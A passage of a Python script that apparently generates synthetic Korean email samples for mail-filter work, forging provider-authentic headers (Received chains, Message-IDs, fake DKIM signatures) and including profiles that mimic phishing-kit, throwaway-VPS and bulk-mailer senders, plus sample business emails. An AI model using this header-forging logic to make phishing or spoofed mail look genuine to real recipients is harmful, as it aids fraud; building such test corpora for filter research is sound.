                       ('Content-Language', 'ko')]
    elif p == 'm365':
        host = 'SE2PR06MB%04d' % r.randint(1000, 9999)
        fq = host + '.apcprd06.prod.outlook.com'
        eop = 'mail-sgaapc01on20%02d.outbound.protection.outlook.com' % r.randint(10, 99)
        d['hops'] = ['from %s by %s with mapi id 15.20.8293.014; %s'
                     % (fq, fq, T(0)),
                     'from %s by %s with Microsoft SMTP Server (version=TLS1_2,\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8293.14; %s'
                     % (fq, eop, T(1))]
        mid = ral(r, 22, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')
        d.update(out_host=eop, msgid='<%s%s@%s>' % (host, mid, fq), fmt='alt', style='outlook',
                 cs=s.get('cs', 'ks_c_5601-1987'), cte='base64', astyle='2047',
                 dkim=[(fd, 'selector1')], order='m365', boundary=None)
        cnt = [0]

        def mb():
            cnt[0] += 1
            return '_%03d_%s%s_' % ((cnt[0] - 1) * 2, host, mid)
        d['boundary'] = mb
        d['client'] = [('Thread-Topic', None), ('Thread-Index', 'AQHb' + ral(r, 38) + '=='),
                       ('Accept-Language', 'ko-KR, en-US'), ('Content-Language', 'ko-KR'),
                       ('X-MS-Has-Attach', 'yes' if s.get('atts') else ''), ('X-MS-TNEF-Correlator', ''),
                       ('x-ms-publictraffictype', 'Email')]
    elif p == 'thunderbird':
        out = s.get('out_host') or 'mail.' + fd
        d['hops'] = ['from [%s] (unknown [%s])\n\tby %s (Postfix) with ESMTPSA id %s\n\tfor <%s>; %s'
                     % (client_ip, client_ip, out, ral(r, 10).upper(), rcpt, T(0))]
        d.update(out_host=out, msgid='<%s@%s>' % (ruuid(r), fd), fmt='plain', cs='UTF-8', cte='8bit',
                 astyle='2231', dkim=[(fd, 'default')] if s.get('dkim', True) else [],
                 boundary=lambda: '------------' + ral(r, 24))
        d['client'] = [('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'ko-KR')]
    elif p == 'roundcube':
        out = s.get('out_host') or 'mail.' + fd
        web = 'webmail.' + fd
        d['hops'] = ['from %s (%s [%s])\n\tby %s (Postfix) with ESMTPSA id %s;\n\t%s'
                     % (web, web, doc_ip(r, '192.0.2'), out, ral(r, 10).upper(), T(0))]
        d.update(out_host=out, msgid='<%s@%s>' % (rhex(r, 32), fd), fmt='plain', cs='UTF-8',
                 cte='quoted-printable', astyle='2231', dkim=[(fd, 'dkim')] if s.get('dkim', True) else [],
                 boundary=lambda: '=_' + rhex(r, 32))
        d['client'] = [('User-Agent', 'Roundcube Webmail/1.6.10'), ('X-Sender', s['frm'][1])]
    elif p == 'hiworks':
        out = 'smtp-out%d.hiworks.co.kr' % r.randint(1, 12)
        d['hops'] = ['from [%s] (unknown [%s])\n\tby %s with ESMTP id %s\n\tfor <%s>; %s'
                     % (client_ip, client_ip, out, ral(r, 14), rcpt, T(0))]
        d.update(out_host=out, msgid='<%s.%s@%s>' % (rhex(r, 16), r.randint(100000, 999999), fd), fmt='html',
                 style='generic', cs=s.get('cs', 'UTF-8'), cte='base64', astyle='2047',
                 dkim=[(fd, 'hiworks')], boundary=lambda: '----=_NextPart_' + rhex(r, 24))
        d['client'] = [('X-Mailer', 'Hiworks Mail')]
    elif p == 'groupware':
        out = 'gw.' + fd
        d['hops'] = ['from [%s] by %s (TeamMail Web) with HTTP; %s' % (client_ip, out, T(0))]
        d.update(out_host=out, msgid='<%s.%s@gw.%s>' % (dt.strftime('%Y%m%d%H%M%S'), ral(r, 8), fd), fmt='html',
                 style='generic', cs=s.get('cs', 'euc-kr'), cte='base64', dkim=[(fd, 'gw')] if s.get('dkim', True) else [])
        d['client'] = [('X-Mailer', 'TeamMail Web 4.2')]
    elif p == 'ses':
        out = 'a%d-%d.smtp-out.ap-northeast-2.amazonses.com' % (r.randint(8, 48), r.randint(1, 250))
        core = '0106019%s-%s-000000' % (rhex(r, 9), ruuid(r))
        d.update(out_host=out, msgid='<%s@ap-northeast-2.amazonses.com>' % core, fmt='html', cs='UTF-8',
                 cte='quoted-printable', astyle='2231', env='%s@ap-northeast-2.amazonses.com' % core,
                 dkim=[(fd, rhex(r, 32)), ('amazonses.com', ral(r, 32).lower())])
        d['pre'] = [('Feedback-ID', '::1.ap-northeast-2.%s=:AmazonSES' % ral(r, 43)),
                    ('X-SES-Outgoing', '%s-%s' % (dt.astimezone(UTC).strftime('%Y.%m.%d'), out_ip))]
    elif p == 'sendgrid':
        out = '%s.outbound-mail.sendgrid.net' % ral(r, 8, 'abcdefghijklmnopqrstuvwxyz')
        d.update(out_host=out, msgid='<%s@geopod-ismtpd-%d>' % (ral(r, 22, ALNUM + '_-'), r.randint(1, 40)), fmt='html',
                 cs='UTF-8', cte='quoted-printable', astyle='2231',
                 env='bounces+%d-%s-%s=%s@em%d.%s' % (r.randint(1000000, 9999999), rhex(r, 4), rcpt.split('@')[0], rcpt.split('@')[1], r.randint(1000, 9999), fd),
                 dkim=[(fd, 's1')], boundary=lambda: rhex(r, 64))
        d['pre'] = [('X-SG-EID', 'u001.' + ral(r, 90)), ('X-Entity-ID', 'u001.' + ral(r, 22))]
    elif p == 'stibee':
        out = 'mail%02d.stibee.com' % r.randint(1, 30)
        d.update(out_host=out, msgid='<%s.%d@stibee.com>' % (ral(r, 20), r.randint(10000000, 99999999)), fmt='html',
                 cs='UTF-8', cte='base64', env='bounce-%s@bounce.stibee.com' % rhex(r, 16),
                 dkim=[(fd, 'stb'), ('stibee.com', 'stb1')])
        d['pre'] = [('Feedback-ID', '%d:%d:stibee' % (r.randint(10000, 99999), r.randint(100000, 999999)))]
    elif p == 'mailchimp':
        pod = 'us%d' % r.randint(1, 21)
        out = 'mail%d.suw%d.mcdlv.net' % (r.randint(100, 199), r.randint(11, 41))
        d.update(out_host=out, msgid='<%s.%s@%s.mcdlv.net>' % (rhex(r, 20), rhex(r, 8), pod), fmt='alt', cs='utf-8',
                 cte='quoted-printable', env='bounce-mc.%s_%s.%d-%s=%s@mail%d.suw%d.mcsv.net'
                 % (pod, rhex(r, 16), r.randint(100000, 999999), rcpt.split('@')[0], rcpt.split('@')[1], r.randint(100, 199), r.randint(11, 41)),
                 dkim=[(fd, 'k2'), ('mcsv.net', 'k3')], boundary=lambda: '_----------=_MCPart_%d' % r.randint(10 ** 9, 10 ** 10 - 1))
        d['client'] = [('X-Mailer', 'Mailchimp Mailer - **CID%s**' % rhex(r, 20)),
                       ('X-Campaign', 'mailchimp%s.%s' % (rhex(r, 25), rhex(r, 10)))]
        d['pre'] = [('Feedback-ID', '%d:%d.%d:%s:mc' % (r.randint(10 ** 7, 10 ** 8), r.randint(10 ** 7, 10 ** 8), r.randint(10 ** 6, 10 ** 7), pod))]
    elif p == 'inhouse':
        out = s.get('out_host') or 'mail%d.%s' % (r.randint(1, 9), fd)
        core = s.get('msgid_dom') or fd
        d['hops'] = ['from %s (%s [%s])\n\tby %s with ESMTP id %s;\n\t%s'
                     % ('ems' + str(r.randint(1, 4)) + '.' + fd, 'ems.' + fd, doc_ip(r, '192.0.2'), out, ral(r, 12).upper(), T(0))]
        d.update(out_host=out, msgid='<%s.%s@%s>' % (dt.strftime('%Y%m%d%H%M%S'), ral(r, 12), core), fmt='html',
                 cs=s.get('cs', 'euc-kr'), cte='base64',
                 dkim=[(fd, s.get('selector', 'default'))] if s.get('dkim', True) else [],
                 env=s.get('env', 'return@' + fd))
        if s.get('mailer', 'ThunderMail 5.0') is not None:
            d['client'] = [('X-Mailer', s.get('mailer', 'ThunderMail 5.0'))]
    elif p == 'vps':  # throwaway sender talking straight to the recipient MX
        out = s.get('out_host') or r.choice(['mail.', 'smtp.', 'mx.', 'send.']) + fd
        d['hops'] = ['from www-data by %s with local (Exim 4.96)\n\t(envelope-from <%s>)\n\tid 1t%s-000%s-%s; %s'
                     % (out, s['frm'][1], ral(r, 4), ral(r, 3), ral(r, 2), T(0))] if r.random() < 0.5 else []
        d.update(out_host=out, msgid='<%s@%s>' % (ral(r, 40), fd), fmt='html', cs=s.get('cs', 'UTF-8'),
                 cte=r.choice(['base64', 'quoted-printable', '8bit']), astyle='raw' if r.random() < 0.3 else '2047',
                 dkim=[(fd, 'default')] if s.get('dkim', False) else [], boundary=lambda: 'b1=_' + ral(r, 40))
        d['client'] = [('X-Mailer', s.get('mailer', r.choice(['PHPMailer 6.9.3', 'PHPMailer 6.8.1', 'Sendinblue-PHP 2.1', 'Mailer 1.0'])))]
    elif p == 'massmail':  # Windows bulk mailer pretending to be Outlook Express
        out = s.get('out_host') or 'host-%s.%s' % (out_ip.replace('.', '-'), fd)
        d.update(out_host=out, msgid='<%s$%s$%s@%s>' % (rhex(r, 12).upper(), rhex(r, 8), rhex(r, 8), s.get('helo', 'PC' + ral(r, 6).upper())),
                 fmt='html', cs=s.get('cs', 'ks_c_5601-1987'), cte='base64', astyle='2047', dkim=[], order='outlook',
                 boundary=lambda: '----=_NextPart_000_%04X_01DB%04X.%08X' % (r.randint(0, 0xffff), r.randint(0, 0xffff), r.randint(0, 0xffffffff)),
                 preamble='This is a multi-part message in MIME format.', pad=False)
        d['client'] = [('X-Priority', '3'), ('X-MSMail-Priority', 'Normal'),
                       ('X-Mailer', s.get('mailer', 'Microsoft Outlook Express 6.00.2900.5512')),
                       ('X-MimeOLE', 'Produced By Microsoft MimeOLE V6.00.2900.5512')]
    elif p == 'kit':  # phishing kit / self-hosted Postfix on a look-alike domain
        out = s.get('out_host') or 'mail.' + fd
        d['hops'] = ['from localhost (unknown [%s])\n\tby %s (Postfix) with ESMTPSA id %s;\n\t%s'
                     % (doc_ip(r), out, ral(r, 10).upper(), T(0))]
        d.update(out_host=out, msgid='<%s.%s@%s>' % (rhex(r, 16), rhex(r, 8), s.get('msgid_dom', fd)), fmt='html',
                 cs=s.get('cs', 'UTF-8'), cte='base64', astyle='2047',
                 dkim=[(fd, 'mail')] if s.get('dkim', False) else [], boundary=lambda: '=_' + rhex(r, 32))
        if s.get('mailer'):
            d['client'] = [('X-Mailer', s['mailer'])]
    else:
        raise ValueError(p)
    if p in ('roundcube', 'iphone', 'applemail', 'mailchimp', 'sendgrid'):
        d['he'] = 'Q'
    elif p in ('vps', 'kit', 'massmail'):
        d['he'] = r.choice(['B', 'B', 'Q', 'raw'] if p == 'vps' else ['B', 'B', 'Q'])
    if d['out_host'] is None:
        d['out_host'] = s.get('out_host') or 'smtp.' + fd
    if s.get('out_host') and p in ('naver', 'gmail'):
        d['out_host'] = s['out_host']
    return d


# ---------------------------------------------------------------------------
# MIME assembly
# ---------------------------------------------------------------------------
def b64wrap(b):
    e = base64.b64encode(b).decode('ascii')
    return '\n'.join(e[i:i + 76] for i in range(0, len(e), 76)).encode('ascii') + b'\n'


def encode_payload(b, cte):
    if cte == 'base64':
        return b64wrap(b)
    if cte == 'quoted-printable':
        q = quopri.encodestring(b)
        return q if q.endswith(b'\n') else q + b'\n'
    return b if b.endswith(b'\n') else b + b'\n'


def leaf(headers, payload):
    return ('leaf', headers, payload)


def multi(subtype, parts, boundary, preamble=None, extra=None):
    return ('multi', subtype, parts, boundary, preamble, extra or [])


def text_leaf(content, subtype, label, cte, qcs, flowed=False):
    b = encode_body_text(content, label)
    cs = '"%s"' % label if qcs else label
    ct = 'text/%s; charset=%s' % (subtype, cs)
    if flowed:
        ct += '; format=flowed'
    if cte in ('8bit', '7bit') and all(x < 128 for x in b):
        cte = '7bit'
    return leaf([('Content-Type', ct), ('Content-Transfer-Encoding', cte)], encode_payload(b, cte))


def att_leaf(a, label, astyle, r):
    name = a['name']
    st = a.get('style') or astyle
    ctype = a['ctype']
    hdrs = []
    if is_ascii(name):
        hdrs.append(('Content-Type', '%s; name="%s"' % (ctype, name)))
        disp = '%s; filename="%s"' % (a['disp'], name)
    elif st == '2231':
        q = urllib.parse.quote(name.encode('utf-8'), safe='')
        hdrs.append(('Content-Type', "%s;\n name*=UTF-8''%s" % (ctype, q)))
        disp = "%s;\n filename*=UTF-8''%s" % (a['disp'], q)
    elif st == 'raw':
        hdrs.append(('Content-Type', '%s; name="%s"' % (ctype, name)))
        disp = '%s; filename="%s"' % (a['disp'], name)
    else:
        lab = 'UTF-8' if st == 'gmail' else label
        if not can_encode(name, lab):
            lab = 'UTF-8'
        ew = ' '.join(encoded_words(name, lab, 'B'))
        hdrs.append(('Content-Type', '%s;\n\tname="%s"' % (ctype, ew)))
        disp = '%s;\n\tfilename="%s"' % (a['disp'], ew)
    if a['disp'] == 'attachment' and st == '2047' and r.random() < 0.5:
        disp += ';\n\tsize=%d' % len(a['data'])
    hdrs.append(('Content-Disposition', disp))
    hdrs.append(('Content-Transfer-Encoding', 'base64'))
    if a.get('cid'):
        hdrs.append(('Content-ID', '<%s>' % a['cid']))
    elif st == 'gmail':
        xid = 'f_m%s0' % ral(r, 7).lower()
        hdrs.append(('Content-ID', '<%s>' % xid))
        hdrs.append(('X-Attachment-Id', xid))
    return leaf(hdrs, b64wrap(a['data']))


def ser_headers(hdrs):
    out = []
    for k, v in hdrs:
        if v is None:
            continue
        out.append('%s: %s' % (k, v) if v != '' else '%s: ' % k)
    return '\n'.join(out).encode('utf-8') + b'\n'


def ser(node, top_headers=None):
    if node[0] == 'leaf':
        _, hdrs, payload = node
        return ser_headers((top_headers or []) + hdrs) + b'\n' + payload
    _, subtype, parts, boundary, preamble, extra = node
    hdrs = (top_headers or []) + extra + [('Content-Type', 'multipart/%s;\n\tboundary="%s"' % (subtype, boundary))]
    out = ser_headers(hdrs) + b'\n'
    if preamble:
        out += preamble.encode('ascii') + b'\n\n'
    for p in parts:
        out += b'--' + boundary.encode('ascii') + b'\n' + ser(p)
        if not out.endswith(b'\n'):
            out += b'\n'
    out += b'--' + boundary.encode('ascii') + b'--\n'
    return out


# ---------------------------------------------------------------------------
# message assembly
# ---------------------------------------------------------------------------
def pick_date(r, s, label):
    if s.get('when'):
        mo, da, hh, mi = s['when']
    else:
        start = datetime(2026, 9, 1, tzinfo=KST)
        day = r.randint(0, 87)
        if label == 'ham':
            hh = r.choice([8, 9, 9, 10, 10, 11, 13, 14, 14, 15, 16, 17, 18, 20, 21])
        else:
            hh = r.randint(0, 23)
        base = start + timedelta(days=day)
        mo, da, mi = base.month, base.day, r.randint(0, 59)
    return datetime(2026, mo, da, hh, mi, r.randint(0, 59), tzinfo=KST)


def addr_list(v, label, he, quote):
    if isinstance(v, str):
        return v
    return ',\n '.join(fmt_addr(n, a, label, he, quote) for n, a in v)


def build(label_kind, idx, s):
    r = random.Random('%s-%04d-ko-fresh7' % (label_kind, idx))
    dt = pick_date(r, s, label_kind)
    to = s['to']
    rcpt = s.get('rcpt') or (to[0][1] if not isinstance(to, str) else None)
    pv = sender_side(s, r, dt, rcpt)
    fdom = s['frm'][1].split('@')[1].lower()

    label = s.get('cs') or pv['cs']
    he = s.get('he') or pv['he']
    cte = s.get('cte') or pv['cte']
    cte_html = s.get('cte_html') or s.get('cte') or pv['cte_html'] or cte
    style = s.get('style') or pv['style']

    text, html = s.get('text'), s.get('html')
    if text is not None and html is not None:
        fmt = 'alt'
    elif html is not None:
        fmt = s.get('fmt') or ('alt' if pv['fmt'] == 'alt' else 'html')
        if fmt == 'plain':
            fmt = 'html'
    else:
        fmt = s.get('fmt') or pv['fmt']
    if fmt in ('html', 'alt') and html is None:
        html = text2html(text, style)
    if fmt == 'alt' and text is None:
        text = html2text(html)
    if fmt == 'html':
        text = None
    if fmt == 'plain':
        html = None
    if html is not None and '%s.gif' in html:
        html = html.replace('%s.gif', rhex(r, 24) + '.gif')

    # make sure the chosen charset can carry the content; fall back like a real client would
    blob = (text or '') + (html or '') + s['subj'] + s['frm'][0]
    if not can_encode(blob, label):
        if s.get('cs'):
            raise ValueError('%s %d: content not encodable in %s' % (label_kind, idx, label))
        label = 'UTF-8'
    if html is not None:
        html = html.replace('{CHARSET}', label)

    # ----- body tree
    parts = []
    flowed = s.get('prov') == 'thunderbird' and fmt == 'plain'
    if text is not None:
        parts.append(text_leaf(text, 'plain', label, cte, pv['qcs'], flowed))
    if html is not None:
        hl = text_leaf(html, 'html', label, cte_html, pv['qcs'])
        if s.get('inline'):
            hl = multi('related', [hl] + [att_leaf(a, label, pv['astyle'], r) for a in s['inline']],
                       pv['boundary']())
        parts.append(hl)
    body = parts[0] if len(parts) == 1 else multi('alternative', parts, pv['boundary']())
    if s.get('atts'):
        body = multi('mixed', [body] + [att_leaf(a, label, pv['astyle'], r) for a in s['atts']],
                     pv['boundary'](), preamble=pv['preamble'])
    elif body[0] == 'multi' and pv['preamble']:
        body = body[:4] + (pv['preamble'], body[5])

    # ----- header block
    subj = hval(s['subj'], label if can_encode(s['subj'], label) else 'UTF-8', he)
    hlabel = label if can_encode(s['frm'][0] + ''.join(n for n, _ in (to if not isinstance(to, str) else [])), label) else 'UTF-8'
    quote = pv['order'] != 'gmail'
    frm = fmt_addr(s['frm'][0], s['frm'][1], hlabel, he, quote)
    to_v = addr_list(to, hlabel, he, quote)
    msg = []
    date_v = rfcdate(dt, pad=pv['pad'], suffix=pv['date_suffix'])
    msgid = s.get('msgid') or pv['msgid']
    reply_hdrs = []
    if s.get('reply'):
        rr = s['reply']
        prev = '<%s@%s>' % (rhex(r, 24), rr if isinstance(rr, str) else rcpt.split('@')[1])
        reply_hdrs = [('In-Reply-To', prev), ('References', prev)]
    common = dict(
        From=frm, To=to_v, Subject=subj, Date=date_v, MsgID=msgid,
    )
    ordered = []
    if pv['order'] == 'gmail':
        ordered.append(('MIME-Version', pv['mime']))
        ordered += [(k, v) for k, v in reply_hdrs][::-1]
        ordered += [('From', frm), ('Date', date_v), ('Message-ID', msgid), ('Subject', subj), ('To', to_v)]
        if s.get('cc'):
            ordered.append(('Cc', addr_list(s['cc'], hlabel, he, quote)))
    else:
        ordered += [('From', frm), ('To', to_v)]
        if s.get('cc'):
            ordered.append(('Cc', addr_list(s['cc'], hlabel, he, quote)))
        ordered += [('Subject', subj)]
        if pv['order'] == 'm365':
            for k, v in pv['client']:
                if k in ('Thread-Topic', 'Thread-Index'):
                    ordered.append((k, subj if k == 'Thread-Topic' else v))
        ordered += [('Date', date_v), ('Message-ID', msgid)] + reply_hdrs
    if s.get('reply_to'):
        ordered.append(('Reply-To', fmt_addr(s['reply_to'][0], s['reply_to'][1], hlabel, he, quote)))
    for k, v in pv['client']:
        if pv['order'] == 'm365' and k in ('Thread-Topic', 'Thread-Index'):
            continue
        if k == 'X-Mailer' and s.get('no_mailer'):
            continue
        ordered.append((k, v))
    for k, v in s.get('hdrs', []):
        ordered.append((k, hval(v, 'UTF-8', 'B') if not is_ascii(v) else v))
    lst = s.get('list')
    if lst:
        if lst.get('id'):
            ordered.append(('List-Id', lst['id']))
        uv = []
        if lst.get('mailto'):
            uv.append('<mailto:%s>' % lst['mailto'])
        if lst.get('url'):
            uv.append('<%s>' % lst['url'])
        if uv:
            ordered.append(('List-Unsubscribe', ',\n '.join(uv)))
        if lst.get('post', bool(lst.get('url'))):
            ordered.append(('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'))
        if lst.get('precedence'):
            ordered.append(('Precedence', lst['precedence']))
    if pv['order'] != 'gmail':
        ordered.append(('MIME-Version', pv['mime']))

    # ----- trace + authentication
    dkims = [] if s.get('dkim') is False else pv['dkim']
    dk_hdrs = []
    for dd, sel in dkims:
        dk_hdrs.append(('DKIM-Signature', 'v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s;\n\ts=%s; t=%d;\n'
                        '\th=from:to:subject:date:message-id:mime-version:content-type%s;\n\tbh=%s;\n\tb=%s'
                        % (dd, sel, int(dt.timestamp()), ':list-unsubscribe:list-unsubscribe-post' if lst else '',
                           rb64(r, 32), '\n\t '.join(re.findall('.{1,70}', rb64(r, 256))))))
    env_from = s.get('env') or pv['env']
    t_last = dt + timedelta(seconds=len(pv['hops']) + r.randint(1, 5))
    sender_hops = [('Received', h) for h in reversed(pv['hops'])]
    rcv = rcv_side(r, rcpt, env_from, pv['out_host'], pv['out_ip'], t_last, fdom, dkims, s.get('auth'))
    top = rcv + sender_hops + pv['pre'] + dk_hdrs + ordered
    data = ser(body, top)
    data = data.replace(b'\r\n', b'\n').replace(b'\n', b'\r\n')
    return data, label, fmt


# ===========================================================================
# HAM - business mail
# ===========================================================================
SY = ('이서연', 'seoyeon.lee@hanbit-tech.example')      # 한빛테크 영업팀 과장
JH = ('박준호', 'junho.park@hanbit-tech.example')       # 한빛테크 재무팀
MJ = ('최민지', 'minji.choi@hanbit-tech.example')       # 한빛테크 인사팀
DY = ('김도윤', 'doyoon.kim@hanbit-tech.example')       # 한빛테크 개발팀
TS = ('윤태식', 'taesik.yoon@hanbit-tech.example')      # 한빛테크 구매팀
GE = ('송가은', 'gaeun.song@hanbit-tech.example')       # 한빛테크 총무
JY = ('김지영', 'jiyoung.kim@hanul-design.test')        # 하늘디자인 실장
SM = ('배성민', 'smbae@seoul-clinic.test')              # 서울클리닉 원장
EY = ('조은영', 'ey.jo@seoul-clinic.test')              # 서울클리닉 사무장
SC = ('문상철', 'sc.moon@daehan-law.example')           # 법무법인 대한 변호사
HR = ('신혜린', 'hyerin.shin@mirae-edu.test')           # 미래에듀 원장
NS = ('남궁선희', 'acct@jinju-foods.example')           # 진주식품 경리
HJ = ('하정훈', 'ceo@jinju-foods.example')              # 진주식품 대표
OH = ('권오현', 'oh.kwon@sejong-tax.example')           # 세종세무회계 세무사

M('ham', '디자인 업체가 고객사에 2027 캘린더 제작 견적서(PDF)를 보내는 업무 메일 (Outlook, ks_c_5601-1987)',
  frm=JY, to=[SY], cc=[('박소라', 'sora.park@hanul-design.test')], prov='outlook', when=(11, 4, 10, 12),
  subj='[하늘디자인] 2027년 탁상 캘린더 제작 견적서 송부의 건',
  text='''이서연 과장님, 안녕하세요.
하늘디자인 김지영 실장입니다.

지난주 미팅 때 말씀 주신 2027년 탁상 캘린더 제작 건 견적서 첨부드립니다.
요청하신 두 가지 사양(A: 스프링 제본 / B: 링 없는 스탠드형)으로 나눠서 산출했고,
수량은 500부, 1,000부 기준입니다.

- A안 1,000부 기준 단가 3,850원 (부가세 별도)
- B안 1,000부 기준 단가 4,420원 (부가세 별도)
- 디자인 시안 2회 수정까지 포함, 3회차부터는 회당 15만원 추가됩니다.

12월 첫째 주 배포를 원하시면 늦어도 11월 14일(금)까지는 사양 확정을 해주셔야
인쇄 일정이 맞을 것 같습니다. 검토하시고 궁금하신 점 편하게 연락 주세요.

감사합니다.

김지영 드림
─────────────────────
하늘디자인 | 실장 김지영
T. 02-6952-1843  M. 010-7713-5208
서울시 마포구 양화로 12길 27, 3층
''',
  atts=[PDF('하늘디자인_견적서_한빛테크_20261104.pdf',
            ['HANUL DESIGN  QUOTATION  No. HD-2026-1104-03', 'Client: Hanbit Tech Co., Ltd.',
             'Item A  Desk calendar 2027 (spring)  1,000 ea  @3,850  3,850,000',
             'Item B  Desk calendar 2027 (stand)   1,000 ea  @4,420  4,420,000', 'VAT excluded. Valid 30 days.'],
            title='Quotation HD-2026-1104-03')])

M('ham', '사내 동료끼리 다음 주 주간회의 시간 변경을 조율하는 짧은 메일 (Thunderbird, 8bit)',
  frm=DY, to=[SY, TS], prov='thunderbird', when=(10, 15, 16, 41),
  subj='다음 주 화요일 주간회의 시간 변경 가능할까요?',
  text='''서연 과장님, 태식 대리님

다음 주 화요일(10/20) 오전에 고객사 서버 이전 작업이 잡혀서
10시 주간회의 참석이 어려울 것 같습니다.

혹시 오후 2시나 4시로 옮겨도 괜찮으실까요?
둘 다 안 되시면 저는 빠지고 회의록만 받아보겠습니다.

도윤
''')

M('ham', '법무법인 변호사가 용역계약서 수정안(HWP)과 검토 의견을 회신, 이전 메일 인용 포함 (Microsoft 365)',
  frm=SC, to=[JH], cc=[SY], prov='m365', reply=True, when=(10, 22, 18, 7),
  subj='RE: [검토요청] 유지보수 용역계약서(안) - 한빛테크/서울클리닉',
  text='''박준호 팀장님께,

보내주신 유지보수 용역계약서(안) 검토 의견 회신드립니다.
수정 사항은 첨부 파일에 변경 내용 추적으로 표시해 두었습니다.

주요 의견은 아래와 같습니다.

1. 제7조(손해배상) - 배상 한도가 "계약금액 전액"으로 되어 있는데,
   통상 연간 유지보수료 범위로 제한하는 것이 합리적입니다. 한도 조항을 수정해 두었습니다.
2. 제11조(개인정보 처리 위탁) - 병원 측이 위탁자이므로 수탁자 의무(재위탁 제한, 파기 확인서 제출)를
   보다 구체적으로 적는 것이 좋겠습니다. 개인정보 보호법 제26조 문구를 반영했습니다.
3. 제15조(계약 해지) - 30일 전 서면 통지 조건은 적정합니다. 다만 해지 시 데이터 반환 기한을 추가했습니다.

상대방(서울클리닉)과 협의 과정에서 추가로 조정이 필요하면 말씀 주십시오.

문상철 드림
법무법인 대한 | 변호사
02-3477-2210

-----Original Message-----
From: 박준호 <junho.park@hanbit-tech.example>
Sent: Tuesday, October 20, 2026 2:31 PM
To: 문상철 <sc.moon@daehan-law.example>
Cc: 이서연 <seoyeon.lee@hanbit-tech.example>
Subject: [검토요청] 유지보수 용역계약서(안) - 한빛테크/서울클리닉

변호사님 안녕하세요. 한빛테크 재무팀 박준호입니다.
서울클리닉과 체결 예정인 EMR 유지보수 용역계약서 초안 검토 부탁드립니다.
이번 주 금요일까지 회신 주시면 감사하겠습니다.
''',
  atts=[HWP('유지보수_용역계약서(안)_검토의견반영_v2.hwp',
            ['유지보수 용역계약서(안)', '제7조 손해배상', '제11조 개인정보 처리 위탁', '제15조 계약 해지'])])

M('ham', '전자세금계산서 ASP(스마트빌)가 보낸 세금계산서 발행 알림, 보기 링크 포함 (EUC-KR HTML)',
  frm=('스마트빌', 'noreply@smartbill.co.kr'), to=[JH], prov='inhouse', cs='euc-kr', cte='base64',
  when=(11, 10, 9, 3), mailer='SmartBill Mailer', selector='sb1',
  subj='[스마트빌] (주)하늘디자인에서 전자세금계산서를 발행하였습니다.',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="margin:0;padding:0;font-family:'돋움',Dotum,sans-serif;font-size:12px;">
<table width="640" cellpadding="0" cellspacing="0" border="0" align="center" style="border:1px solid #d6d6d6;">
<tr><td style="background:#0b4ea2;color:#fff;padding:14px 20px;font-size:16px;font-weight:bold;">전자세금계산서 발행 안내</td></tr>
<tr><td style="padding:20px;line-height:1.7;">
(주)한빛테크 담당자님, 안녕하십니까.<br>
(주)하늘디자인에서 아래와 같이 전자세금계산서를 발행하였습니다.<br><br>
<table width="100%" cellpadding="6" cellspacing="0" border="1" style="border-collapse:collapse;border-color:#ccc;">
<tr><td width="30%" bgcolor="#f4f6fa">공급자</td><td>(주)하늘디자인 (105-87-*****)</td></tr>
<tr><td bgcolor="#f4f6fa">공급받는자</td><td>(주)한빛테크 (214-86-*****)</td></tr>
<tr><td bgcolor="#f4f6fa">작성일자</td><td>2026-11-10</td></tr>
<tr><td bgcolor="#f4f6fa">품목</td><td>2027 탁상 캘린더 디자인 및 제작 외</td></tr>
<tr><td bgcolor="#f4f6fa">공급가액</td><td>3,850,000원</td></tr>
<tr><td bgcolor="#f4f6fa">세액</td><td>385,000원</td></tr>
<tr><td bgcolor="#f4f6fa">합계금액</td><td><b>4,235,000원</b></td></tr>
<tr><td bgcolor="#f4f6fa">승인번호</td><td>20261110-41000029-83715527</td></tr>
</table><br>
<a href="https://www.smartbill.co.kr/xWebTax/view/invoice.aspx?doc=20261110410000298371" style="display:inline-block;background:#0b4ea2;color:#fff;padding:8px 18px;text-decoration:none;">세금계산서 보기</a><br><br>
본 세금계산서는 국세청에 전송되며, 국세청 홈택스(www.hometax.go.kr)에서도 조회하실 수 있습니다.<br>
※ 본 메일은 발신전용입니다. 문의는 공급자에게 직접 해주시기 바랍니다.
</td></tr>
<tr><td style="background:#f2f2f2;color:#777;padding:10px 20px;font-size:11px;">Copyright (c) SmartBill. All rights reserved.</td></tr>
</table></body></html>
''')

M('ham', '수산물 납품업체 경리가 거래처에 10월분 거래대금 입금을 요청, 기존 계좌 그대로임을 명시 (daum, EUC-KR)',
  frm=('동해수산 경리 정미숙', 'donghae_susan@hanmail.net'), to=[NS], prov='daum', cs='euc-kr', when=(11, 3, 11, 26),
  subj='10월분 거래대금 입금 요청드립니다 (동해수산)',
  text='''진주식품 남궁선희 주임님 안녕하세요.
동해수산 경리 정미숙입니다.

10월분 납품 거래대금 정산 내역 보내드립니다.
세금계산서는 10월 31일자로 발행해서 홈택스로 보내드렸으니 확인 부탁드려요.

- 납품 기간: 10/1 ~ 10/31 (총 18회)
- 공급가액: 12,460,000원
- 부가세: 면세 품목 (건어물 일부 과세분 184,000원 포함)
- 합계: 12,644,000원

입금 계좌는 기존과 동일하게 농협 동해수산(대표 정상철) 계좌로 부탁드립니다.
혹시라도 계좌 변경 안내 메일이나 문자가 오면 저희 쪽에서 보낸 게 아니니
꼭 전화(033-532-18XX)로 확인하고 처리해 주세요. 요즘 그런 사기가 많다고 해서요.

결제일인 11월 10일까지 처리 부탁드립니다.
늘 감사합니다.

동해수산 정미숙 드림
''')

M('ham', '식품회사 구매 담당이 포장재 업체에 11월 발주서(XLSX)를 보내는 메일 (hiworks HTML)',
  frm=('진주식품 구매팀 류재석', 'purchase@jinju-foods.example'), to=[('대성포장 영업부', 'sales@daesung-pack.example')],
  prov='hiworks', cs='euc-kr', when=(11, 6, 14, 2),
  subj='[진주식품] 11월 2차 포장재 발주서 송부',
  text='''대성포장 영업부 담당자님께

안녕하세요, 진주식품 구매팀 류재석입니다.
11월 2차 포장재 발주서 첨부하여 보내드립니다.

이번 발주분 중 "수제 육포 150g 지퍼백"은 인쇄 필름이 변경되었습니다.
(원산지 표기 문구 수정, 10월 28일 메일로 드린 최종 파일 기준)
